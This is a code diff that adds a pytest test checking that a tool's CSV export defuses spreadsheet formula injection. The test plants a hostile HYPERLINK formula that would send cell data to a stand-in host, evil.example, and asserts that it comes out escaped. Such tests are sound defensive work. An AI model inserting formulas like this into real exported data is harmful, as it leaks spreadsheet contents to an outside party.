@@ -208,6 +208,15 @@ def test_csv_cleans_a_hostile_name(org: Org, capsys: pytest.CaptureFixture[str])
     assert evil["secure"] in ("true", "false") and evil["timeoutIsDefault"] in ("true", "false")
 
 
+def test_csv_defuses_a_name_a_spreadsheet_would_run(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
+    victim = next(iter(org.sim.runtime.org.action_by_id))  # type: ignore[union-attr]
+    org.edit(victim, name='=HYPERLINK("http://evil.example/?"&A1,"open")')
+    assert gctui(org, "actions", "list", "--csv") == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    (evil,) = [r for r in rows if r["id"] == victim]
+    assert evil["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
 def test_statistics_that_cannot_be_read(org: Org, capsys: pytest.CaptureFixture[str]) -> None:
     """The analytics query is refused: the list still shows every action (and says why there are
     no statistics); a write that needs them refuses, nothing sent."""
